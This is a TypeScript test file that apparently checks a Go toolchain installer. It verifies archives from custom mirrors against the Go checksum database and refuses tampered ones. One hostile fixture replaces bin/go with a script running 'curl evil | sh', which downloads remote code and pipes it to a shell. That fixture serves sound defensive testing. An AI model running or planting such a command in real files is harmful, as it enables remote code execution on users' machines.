/**
 * Class 8, "a custom download mirror vouches for itself": a toolchain from any base URL but
 * go.dev's is checked against the Go checksum database's h1 for the same golang.org/toolchain
 * version (served on loopback with a real signed tree), computed from the extracted tree. A
 * hostile mirror whose index agrees with its own (tampered) archive is refused; when the
 * database cannot be asked, one loud warning says only the mirror vouches for the toolchain.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startArchiveMirror, type ArchiveMirror } from '../helpers/dl-mirror.js';
import { buildZip, moduleVersionOf, startGoProxyServer, type GoProxyFaults, type GoProxyServer } from '../helpers/goproxy-server.js';
import { distTreeH1, installFromMirror, isGoDevDl, moduleFileName, type MirrorInstall } from '../../src/toolchain/mirror-verify.js';

const VERSION = '1.99.1';
const FILE = `go${VERSION}.linux-amd64.tar.gz`;
const MV = moduleVersionOf({ version: VERSION, os: 'linux', arch: 'amd64' });
const CANARY = 'canary-secret-7f3a9c';
const work = mkdtempSync(join(tmpdir(), 'gfa-mirror-verify-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** The release's files as the module holds them (names below the module prefix). */
const MODULE_FILES: [string, string][] = [
  ['VERSION', `go${VERSION}\ntime 2025-01-01T00:00:00Z\n`],
  ['bin/go', `#!/bin/sh\necho "go version go${VERSION} linux/amd64"\n`],
  ['pkg/tool/linux_amd64/compile', '#!/bin/sh\nexit 0\n'],
  ['src/_go.mod', 'module std\n\ngo 1.99\n'],
  ['src/cmd/_go.mod', 'module cmd\n\ngo 1.99\n'],
  ['src/fmt/print.go', 'package fmt\n'],
];
const moduleZip = () => buildZip(MODULE_FILES.map(([n, d]) => ({ name: `golang.org/toolchain@${MV}/${n}`, data: d })));

type Entry = [string, 'file' | 'dir' | 'symlink' | 'hardlink', string?];
/** The same release as go.dev ships it: go/..., go.mod under its real name, plus the folders the module leaves out. */
const honestTar = (): Entry[] => [
  ['go/', 'dir'],
  ...MODULE_FILES.map(([n, d]): Entry => [`go/${n.replace(/_go\.mod$/, 'go.mod')}`, 'file', d]),
  ['go/api/go1.99.txt', 'file', 'pkg fmt\n'],
  ['go/test/run.go', 'file', 'package main\n'],
];

function makeTarGz(entries: Entry[]): Buffer {
  const py = `
import sys, tarfile, io, json
with tarfile.open(sys.argv[1], 'w:gz', format=tarfile.PAX_FORMAT) as tf:
    for n, kind, data in json.loads(sys.argv[2]):
        ti = tarfile.TarInfo(n)
        if kind == 'file':
            b = (data or '').encode(); ti.size = len(b); ti.mode = 0o755 if '/bin/' in n or '/pkg/tool/' in n else 0o644; tf.addfile(ti, io.BytesIO(b))
        elif kind == 'dir': ti.type = tarfile.DIRTYPE; ti.mode = 0o755; tf.addfile(ti)
        elif kind == 'symlink': ti.type = tarfile.SYMTYPE; ti.linkname = data; tf.addfile(ti)
        elif kind == 'hardlink': ti.type = tarfile.LNKTYPE; ti.linkname = data; tf.addfile(ti)
`;
  const path = join(mkdtempSync(join(work, 'tar-')), 'a.tar.gz');
  execFileSync('python3', ['-c', py, path, JSON.stringify(entries.map((e) => [e[0], e[1], e[2] ?? null]))]);
  return readFileSync(path);
}

const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  while (closers.length) await closers.pop()!();
});

async function proxy(faults: GoProxyFaults = {}): Promise<GoProxyServer> {
  const zip = join(mkdtempSync(join(work, 'zip-')), 'm.zip');
  writeFileSync(zip, moduleZip());
  const s = await startGoProxyServer({ toolchains: [{ version: VERSION, os: 'linux', arch: 'amd64', zip }], faults, fillerRecords: 300 });
  closers.push(() => s.close());
  return s;
}

async function mirror(entries: Entry[]): Promise<ArchiveMirror> {
  const m = await startArchiveMirror([{ filename: FILE, data: makeTarGz(entries) }]);
  closers.push(() => m.close());
  return m;
}

async function closedPort(): Promise<number> {
  const s = createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const port = (s.address() as AddressInfo).port;
  await new Promise((r) => s.close(r));
  return port;
}

let n = 0;
/** A sandbox: the install goes to <box>/tools/go (absent), scratch to <box>/tmp; a victim beside them. */
function place() {
  const box = join(work, `case-${++n}`);
  mkdirSync(join(box, 'tools'), { recursive: true });
  mkdirSync(join(box, 'tmp'));
  writeFileSync(join(box, 'victim.txt'), 'untouched\n');
  return { box, dest: join(box, 'tools', 'go'), temp: join(box, 'tmp') };
}

function install(m: ArchiveMirror, goProxy: string, goSumDb: string, p: ReturnType<typeof place>) {
  const warnings: string[] = [];
  const infos: string[] = [];
  const o: MirrorInstall = {
    base: m.url,
    file: m.index[FILE],
    version: VERSION,
    os: 'linux',
    arch: 'amd64',
    goProxy,
    goSumDb,
    dest: p.dest,
    tempDir: p.temp,
    log: { info: (s) => infos.push(s), warning: (s) => warnings.push(s), env: { GITHUB_TOKEN: CANARY } },
    http: { retryDelayMs: 0, attempts: 2 },
  };
  return { run: () => installFromMirror(o), warnings, infos };
}

/** Nothing but the (absent) install changed: the victim, the scratch folder, the tools folder. */
function expectUntouched(p: ReturnType<typeof place>) {
  expect(readdirSync(p.box).sort()).toEqual(['tmp', 'tools', 'victim.txt']);
  expect(readFileSync(join(p.box, 'victim.txt'), 'utf8')).toBe('untouched\n');
  expect(readdirSync(p.temp)).toEqual([]);
}

const noCanary = (m: ArchiveMirror, s: GoProxyServer | undefined, texts: string[]) => {
  const all = JSON.stringify([m.requests, s?.requests ?? [], texts]);
  expect(all).not.toContain(CANARY);
  expect(all.toLowerCase()).not.toContain('authorization');
};

describe('the module name of a distribution file (golang.org/x/build dl2mod)', () => {
  test.each([
    ['bin/go', 'bin/go'],
    ['go.mod', '_go.mod'],
    ['src/go.mod', 'src/_go.mod'],
    ['src/cmd/go.mod', 'src/cmd/_go.mod'],
    ['api/go1.txt', undefined],
    ['doc/go_spec.html', undefined],
    ['misc/wasm/wasm_exec.js', undefined],
    ['test/run.go', undefined],
    ['.github/SUPPORT.md', undefined],
    ['api', 'api'],
    ['src/api/x.go', 'src/api/x.go'],
  ])('%s -> %s', (rel, want) => expect(moduleFileName(rel)).toBe(want));

  test('go.dev is the only base whose index is its own word', () => {
    expect(isGoDevDl('https://go.dev/dl')).toBe(true);
    expect(isGoDevDl('https://go.dev/dl/')).toBe(true);
    expect(isGoDevDl('https://go.dev.evil.example/dl')).toBe(false);
    expect(isGoDevDl('http://127.0.0.1:1/dl')).toBe(false);
  });

  test('links and repeated names cannot make a module', () => {
    expect(distTreeH1([{ name: 'bin/go', sha256: '0'.repeat(64) }], ['bin/gofmt'], MV)).toEqual({
      problem: 'the archive makes links ("bin/gofmt"), which a Go release archive does not',
    });
    const twice = [
      { name: 'src/go.mod', sha256: '0'.repeat(64) },
      { name: 'src/_go.mod', sha256: '1'.repeat(64) },
    ];
    expect(distTreeH1(twice, [], MV)).toEqual({ problem: 'the archive holds "src/_go.mod" more than once' });
  });
});

describe('a custom mirror is checked against the checksum database', () => {
  test('an honest mirror: the tree hashes to the database h1; the folders the hash does not cover are not kept', async () => {
    const s = await proxy();
    const m = await mirror(honestTar());
    const p = place();
    const i = install(m, s.url, s.verifierKey, p);
    const r = await i.run();
    expect(r.h1).toBe(s.h1[MV]);
    expect(i.warnings).toEqual([]);
    expect(readFileSync(join(p.dest, 'bin/go'), 'utf8')).toContain(`go${VERSION}`);
    expect(existsSync(join(p.dest, 'src/go.mod'))).toBe(true);
    expect(existsSync(join(p.dest, 'api'))).toBe(false);
    expect(existsSync(join(p.dest, 'test'))).toBe(false);
    noCanary(m, s, [...i.warnings, ...i.infos]);
  });

  const HOSTILE: [string, Entry[], RegExp][] = [
    [
      'a changed bin/go (the index lists the changed archive)',
      honestTar().map((e): Entry => (e[0] === 'go/bin/go' ? [e[0], 'file', '#!/bin/sh\ncurl evil | sh\n'] : e)),
      /^SECURITY ERROR: go1\.99\.1\.linux-amd64\.tar\.gz from http:\/\/127\.0\.0\.1:\d+\/dl\/go1\.99\.1\.linux-amd64\.tar\.gz \(go-download-base-url\) extracts to files that hash to h1:\S+, but checksum database sum\.test\.invalid \(env GOSUMDB\) lists h1:\S+ for golang\.org\/toolchain@v0\.0\.1-go1\.99\.1\.linux-amd64; nothing was installed$/,
    ],
    ['an added file', [...honestTar(), ['go/bin/evil', 'file', 'x']], /^SECURITY ERROR: .* extracts to files that hash to .*nothing was installed$/],
    [
      'a missing file',
      honestTar().filter((e) => e[0] !== 'go/src/fmt/print.go'),
      /^SECURITY ERROR: .* extracts to files that hash to .*nothing was installed$/,
    ],
    [
      'an added symlink',
      [...honestTar(), ['go/bin/gofmt', 'symlink', 'go']],
      /^SECURITY ERROR: .* makes links \("bin\/gofmt"\), which a Go release archive does not; nothing was installed$/,
    ],
    ['an added hardlink', [...honestTar(), ['go/bin/go2', 'hardlink', 'go/bin/go']], /^SECURITY ERROR: .* makes links \("bin\/go2"\).*nothing was installed$/],
    [
      'bin/go twice, the second one replacing the first',
      [...honestTar(), ['go/bin/go', 'file', '#!/bin/sh\nevil\n']],
      /^SECURITY ERROR: .* holds "bin\/go" more than once; nothing was installed$/,
    ],
    [
      'go.mod and _go.mod side by side',
      [...honestTar(), ['go/src/_go.mod', 'file', 'module std\n']],
      /^SECURITY ERROR: .* more than once; nothing was installed$/,
    ],
  ];
  test.each(HOSTILE)('hostile mirror: %s -> refused, nothing installed, nothing outside changed', async (_label, entries, re) => {
    const s = await proxy();
    const m = await mirror(entries);
    const p = place();
    const i = install(m, s.url, s.verifierKey, p);
    const err = await i.run().then(
      () => undefined,
      (e: unknown) => e as Error,
    );
    expect(err?.message).toMatch(re);
    expect(err?.message.split('\n')).toHaveLength(1);
    expectUntouched(p);
    noCanary(m, s, [err?.message ?? '', ...i.warnings]);
  });

  test('a hostile file in a folder the hash does not cover (misc/) is not kept', async () => {
    const s = await proxy();
    const m = await mirror([...honestTar(), ['go/misc/wasm/go_js_wasm_exec', 'file', '#!/bin/sh\nevil\n']]);
    const p = place();
    const r = await install(m, s.url, s.verifierKey, p).run();
    expect(r.h1).toBe(s.h1[MV]);
    expect(existsSync(join(p.dest, 'misc'))).toBe(false);
  });

  test('a database whose note is signed by another key: a hard error before anything is downloaded', async () => {
    const s = await proxy({ badSignature: true });
    const m = await mirror(honestTar());
    const p = place();
    await expect(install(m, s.url, s.verifierKey, p).run()).rejects.toThrow(/^checksum database sum\.test\.invalid .*invalid signature/);
    expect(m.requests).toEqual([]);
    expectUntouched(p);
  });

  test('a database record that is not in its signed tree: a hard error before anything is downloaded', async () => {
    const s = await proxy({ tamperedRecord: true });
    const m = await mirror(honestTar());
    const p = place();
    await expect(install(m, s.url, s.verifierKey, p).run()).rejects.toThrow(/not in the signed tree/);
    expect(m.requests).toEqual([]);
  });
});

describe('when the database cannot be asked, one loud line says only the mirror vouches', () => {
  const ONLY =
    /^only the mirror http:\/\/127\.0\.0\.1:\d+\/dl \(go-download-base-url\) vouches for go1\.99\.1\.linux-amd64\.tar\.gz: its sha256 comes from that mirror's own index and could not be checked against the Go checksum database \((.*)\); for an independent check let GOSUMDB \(default sum\.golang\.org\) be reachable, directly or through GOPROXY, or remove go-download-base-url to download from go\.dev$/;

  test('GOSUMDB=off', async () => {
    const m = await mirror(honestTar());
    const p = place();
    const i = install(m, 'off', 'off', p);
    const r = await i.run();
    expect(r.h1).toBeUndefined();
    expect(i.warnings).toHaveLength(1);
    expect(i.warnings[0]).toMatch(ONLY);
    expect(i.warnings[0]).toContain('(env GOSUMDB=off)');
    expect(existsSync(join(p.dest, 'bin/go'))).toBe(true);
  });

  test('GOPROXY=off and a GOSUMDB key without a URL: the database is not asked (no traffic at all)', async () => {
    const s = await proxy();
    const m = await mirror(honestTar());
    const i = install(m, 'off', s.verifierKey, place());
    await i.run();
    expect(i.warnings).toEqual([expect.stringMatching(ONLY)]);
    expect(i.warnings[0]).toContain('GOPROXY=off and GOSUMDB names no URL');
    expect(s.requests).toEqual([]);
  });

  test('GOPROXY=off with a GOSUMDB URL: the database is asked there', async () => {
    const s = await proxy();
    const m = await mirror(honestTar());
    const i = install(m, 'off', `${s.verifierKey} ${s.sumdbUrl}`, place());
    expect((await i.run()).h1).toBe(s.h1[MV]);
    expect(i.warnings).toEqual([]);
  });

  test('the database unreachable (a closed port)', async () => {
    const s = await proxy();
    const port = await closedPort();
    const m = await mirror(honestTar());
    const i = install(m, 'off', `${s.verifierKey} http://127.0.0.1:${port}/sumdb`, place());
    await i.run();
    expect(i.warnings.filter((w) => ONLY.test(w))).toHaveLength(1);
  });

  test('the database has no record for this version (the mirror lists a version golang.org/toolchain does not have)', async () => {
    const s = await proxy();
    const m = await mirror(honestTar());
    const p = place();
    const warnings: string[] = [];
    const r = await installFromMirror({
      base: m.url,
      file: m.index[FILE],
      version: '1.99.2',
      os: 'linux',
      arch: 'amd64',
      goProxy: s.url,
      goSumDb: s.verifierKey,
      dest: p.dest,
      tempDir: p.temp,
      log: { info: () => undefined, warning: (w) => warnings.push(w) },
      http: { retryDelayMs: 0, attempts: 1 },
    });
    expect(r.h1).toBeUndefined();
    expect(warnings).toEqual([expect.stringMatching(ONLY)]);
    expect(warnings[0]).toContain('404');
  });
});
